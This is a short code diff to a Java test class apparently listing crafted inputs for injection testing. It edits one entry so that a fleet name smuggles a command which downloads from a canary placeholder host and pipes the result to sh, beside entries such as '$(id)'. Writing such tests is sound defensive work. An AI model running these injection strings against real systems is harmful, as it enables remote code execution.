@@ -95,7 +95,7 @@ final class CraftedInputs {
   private void fleetNames() {
     for (String name :
         List.of(
-            "payments; curl {canary}|sh #",
+            "payments; curl http://{canary}/ | sh #",
             "$(id)",
             "`id`",
             "a\\nb",
